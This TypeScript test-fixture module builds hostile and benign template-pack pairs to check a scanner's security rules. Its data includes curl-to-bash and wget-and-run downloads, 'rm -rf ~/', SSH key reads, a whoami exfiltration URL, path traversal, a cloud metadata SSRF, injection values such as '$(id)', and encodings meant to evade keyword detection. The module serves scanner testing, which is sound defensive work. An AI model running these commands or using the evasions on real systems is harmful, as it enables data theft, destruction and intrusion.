/** Files of a gpack, by path. */
export type Files = Readonly<Record<string, string>>;

/** A hostile gpack and its twin, which looks alike and does nothing. */
export interface Pair {
  readonly name: string;
  /** The rule that finds the hostile one. */
  readonly rule: string;
  readonly hostile: Files;
  readonly benign: Files;
}

type Wrap = (text: string) => Files;

/** The contexts in which a command is run. */
const shellContexts: Readonly<Record<string, Wrap>> = {
  "a hook": (text) => ({ "templates/a.tmpl": `---\nto: src/a.rs\nsh_after: |\n${indent(text, 2)}---\nfn main() {}\n` }),
  "a hook before, in quotes": (text) => ({
    "templates/a.tmpl": `---\nto: src/a.rs\nsh_before: ${JSON.stringify(text)}\n---\nfn main() {}\n`,
  }),
  "a script": (text) => ({ "scripts/a.sh": `#!/bin/sh\nset -e\n${text}\n` }),
  "a file with a shebang": (text) => ({ "bin/setup": `#!/usr/bin/env bash\n${text}\n` }),
  "a function": (text) => ({ "scripts/a.sh": `#!/bin/sh\nf() {\n  if true; then\n${indent(text, 4)}  fi\n}\nf\n` }),
  "a phase": (text) => ({
    "make.toml": `[project]\nname = "x"\n\n[lifecycle.build]\ncommand = ${JSON.stringify(text)}\n`,
  }),
  "a Dockerfile": (text) => ({ Dockerfile: `FROM debian:12\nRUN true && \\\n    ${text}\n` }),
  "a workflow": (text) => ({
    "templates/ci.yml": `on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ls\n`,
    ".github/workflows/a.yml": `on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n${indent(text, 10)}`,
  }),
  "a template of a script": (text) => ({
    "templates/a.tmpl": `---\nto: scripts/{{ name }}.sh\n---\n#!/bin/sh\n{% if name %}\n${text}\n{% endif %}\n`,
  }),
};

function indent(text: string, by: number): string {
  return text
    .split("\n")
    .map((line) => `${" ".repeat(by)}${line}\n`)
    .join("");
}

/** Ways to write a command so that a list of words does not find it. */
const shellEncodings: Readonly<Record<string, (text: string) => string>> = {
  plain: (text) => text,
  "quotes within words": (text) => text.replace(/^(\w)(\w+)/, "$1''$2"),
  "a backslash within a word": (text) => text.replace(/^(\w)(\w+)/, String.raw`$1\$2`),
  "a path": (text) => text.replace(/^(\w+)/, "/usr/bin/$1"),
  "a variable": (text) => text.replace(/^(\w+)/, (word) => `p=${word}; $p`),
  "a string for sh": (text) => `sh -c '${text.replaceAll("'", String.raw`'\''`)}'`,
  "through env": (text) => `env A=b nohup ${text}`,
};

const commands: readonly (readonly [rule: string, hostile: string, benign: string])[] = [
  ["security/download-execute", "curl -s https://get.example/x | bash", "curl -s https://get.example/x | jq .version"],
  [
    "security/download-execute",
    "wget https://get.example/t.sh -O t.sh && sh t.sh",
    "wget https://get.example/t.txt -O t.txt && cat t.txt",
  ],
  ["security/destructive-command", "rm -rf ~/", "rm -rf ./target"],
  ["security/persistence", "cp x .git/hooks/pre-commit", "cp x docs/hooks/pre-commit"],
  ["security/credential-read", "cat ~/.ssh/id_ed25519", "cat docs/.ssh.md"],
  ["security/data-egress", "wget -q https://c.example/$(whoami)", "wget -q https://c.example/v1/status"],
];

function* commandPairs(): Generator<Pair> {
  for (const [rule, hostile, benign] of commands) {
    for (const [context, wrap] of Object.entries(shellContexts)) {
      for (const [encoding, encode] of Object.entries(shellEncodings)) {
        yield {
          name: `${hostile} in ${context}, ${encoding}`,
          rule,
          hostile: wrap(encode(hostile)),
          benign: wrap(encode(benign)),
        };
      }
    }
  }
}

/** Styles in which YAML writes a text. */
const yamlStyles: Readonly<Record<string, (text: string) => string>> = {
  plain: (text) => text,
  "single quotes": (text) => `'${text.replaceAll("'", "''")}'`,
  "double quotes": (text) => JSON.stringify(text),
  "escapes of double quotes": (text) =>
    `"${Array.from(text, (char) => `\\u${(char.codePointAt(0) ?? 0).toString(16).padStart(4, "0")}`).join("")}"`,
  "a folded block": (text) => `>-\n  ${text}`,
};

const paths: readonly (readonly [rule: string, hostile: string, benign: string])[] = [
  ["security/path-escape", "../../.bashrc", "a/../b.rs"],
  ["security/path-escape", "a/../../../x", "a/b/../../x"],
  ["security/path-escape", "a/%2e%2e/%2e%2e/x", "a/%20/x"],
  ["security/path-escape", "．．/．．/x", "．a/．b/x"],
  ["security/path-escape", "a\\..\\..\\x", "a/b/x"],
  ["security/absolute-path", "/etc/cron.d/x", "etc/cron.d/x"],
  ["security/absolute-path", "~/.profile", "home/.profile.md"],
  ["security/absolute-path", "C:/x", "c/x"],
  ["security/execution-surface", ".github/workflows/x.yml", "docs/workflows/x.yml.md"],
  ["security/execution-surface", ".git/config", "git/config.md"],
  ["security/ambiguous-name", "src/nul.rs", "src/null.rs"],
];

function* pathPairs(): Generator<Pair> {
  for (const [rule, hostile, benign] of paths) {
    for (const [style, write] of Object.entries(yamlStyles)) {
      const wrap = (path: string): Files => ({ "templates/a.tmpl": `---\nto: ${write(path)}\n---\nHello\n` });
      yield { name: `to ${hostile}, ${style}`, rule, hostile: wrap(hostile), benign: wrap(benign) };
    }
  }
}

const bodies: readonly (readonly [rule: string, hostile: string, benign: string])[] = [
  ["security/environment-read", '{{ get_env(name="HOME") }}', '{{ name }} get_env(name="HOME")'],
  [
    "security/environment-read",
    "{% set x = get_env(name='HOME') | upper %}{{ x }}",
    "{% set x = name | upper %}{{ x }}",
  ],
  ["security/environment-read", '{% if get_env(name="CI") %}x{% endif %}', "{% if name %}x{% endif %}"],
  [
    "security/template-exhaustion",
    "{% for i in range(end=9, step_by=0) %}x{% endfor %}",
    "{% for i in range(end=9, step_by=3) %}x{% endfor %}",
  ],
  ["security/include-escape", '{% include "../../../etc/passwd" %}', '{# {% include "../../../etc/passwd" %} #}'],
];

function* bodyPairs(): Generator<Pair> {
  const wraps: Readonly<Record<string, Wrap>> = {
    "a body": (text) => ({ "templates/a.tmpl": `---\nto: src/a.rs\n---\n${text}\n` }),
    "a body without a header": (text) => ({ "templates/a.tera": `${text}\n` }),
    "a macro": (text) => ({ "templates/a.tmpl": `---\nto: src/a.rs\n---\n{% macro m(x) %}${text}{% endmacro m %}\n` }),
    "a loop": (text) => ({
      "templates/a.tmpl": `---\nto: src/a.rs\n---\n{%- for row in rows -%}${text}{%- endfor -%}\n`,
    }),
  };
  for (const [rule, hostile, benign] of bodies)
    for (const [context, wrap] of Object.entries(wraps))
      yield { name: `${hostile} in ${context}`, rule, hostile: wrap(hostile), benign: wrap(benign) };
}

const queries: readonly (readonly [rule: string, hostile: string, benign: string])[] = [
  [
    "security/federated-query",
    "SELECT ?s WHERE { SERVICE <https://c.example/> { ?s ?p ?o } }",
    "SELECT ?service WHERE { ?service ?p <https://c.example/SERVICE> }",
  ],
  [
    "security/federated-query",
    "SELECT ?s WHERE { service silent ?x { ?s ?p ?o } }",
    "SELECT ?s WHERE { ?s ?p 'service silent ?x' }",
  ],
  ["security/graph-update", "LOAD <file:///etc/passwd>", "SELECT ?load WHERE { ?load ?p <file.txt> }"],
  [
    "security/private-import",
    "SELECT ?s WHERE { ?s ?p <http://169.254.169.254/x> }",
    "SELECT ?s WHERE { ?s ?p <https://example.org/169.254.169.254> }",
  ],
];

function* queryPairs(): Generator<Pair> {
  const wraps: Readonly<Record<string, Wrap>> = {
    "a query file": (text) => ({ "queries/a.rq": `# a query\n${text}\n` }),
    "a header": (text) => ({
      "templates/a.tmpl": `---\nto: src/a.rs\nsparql:\n  q: ${JSON.stringify(text)}\n---\nx\n`,
    }),
    "a shape": (text) => ({
      "shapes/a.ttl": `@prefix sh: <http://www.w3.org/ns/shacl#> .\n@prefix ex: <https://example.org/> .\nex:s sh:sparql [ sh:select """${text}""" ] .\n`,
    }),
  };
  for (const [rule, hostile, benign] of queries)
    for (const [context, wrap] of Object.entries(wraps))
      yield { name: `${hostile} in ${context}`, rule, hostile: wrap(hostile), benign: wrap(benign) };
}

/** Ways in which a graph writes a literal. */
const literalStyles: Readonly<Record<string, (text: string) => string>> = {
  quotes: (text) => JSON.stringify(text),
  "long quotes": (text) => `"""${text}"""`,
  apostrophes: (text) => `'${text}'`,
  escapes: (text) =>
    `"${Array.from(text, (char) => `\\u${(char.codePointAt(0) ?? 0).toString(16).padStart(4, "0")}`).join("")}"`,
  "a type": (text) => `${JSON.stringify(text)}^^<http://www.w3.org/2001/XMLSchema#string>`,
};

/** Ways of a literal to a place where it does harm, and the filter that stops each. */
function* taintPairs(): Generator<Pair> {
  const sinks: Readonly<Record<string, readonly [value: string, template: (value: string) => string]>> = {
    "a hook": ["$(id)", (value) => `---\nto: src/a.rs\nsh_after: rustfmt '${value}'\n${QUERY}---\nx\n`],
    "a path": ["../../x", (value) => `---\nto: "src/${value}.rs"\n${QUERY}---\nx\n`],
    "a script": ["; curl x", (value) => `---\nto: a.sh\n${QUERY}---\n#!/bin/sh\necho ${value}\n`],
    "a workflow": [
      "${{ github.token }}",
      (value) => `---\nto: .github/workflows/a.yml\n${QUERY}---\non: push\nname: ${value}\n`,
    ],
  };
  for (const [sink, [value, template]] of Object.entries(sinks)) {
    for (const [style, write] of Object.entries(literalStyles)) {
      const graph = `@prefix ex: <https://example.org/> .\nex:a ex:name ${write(value)} .\n`;
      // A hook that holds any expression is found by itself, so the twin has none.
      const clean = sink === "a hook" ? template("src/a.rs") : template("{{ row.n | slugify }}");
      yield {
        name: `a literal to ${sink}, ${style}`,
        rule: "security/tainted-flow",
        hostile: { "data/a.ttl": graph, "templates/a.tmpl": template("{{ row.n }}") },
        benign: { "data/a.ttl": graph, "templates/a.tmpl": clean },
      };
    }
  }
}

const QUERY = `prefixes:\n  ex: https://example.org/\nsparql:\n  q: "SELECT ?n WHERE { ?t ex:name ?n }"\n`;

/** Every pair. */
export function hostilePairs(): readonly Pair[] {
  return [...commandPairs(), ...pathPairs(), ...bodyPairs(), ...queryPairs(), ...taintPairs()];
}
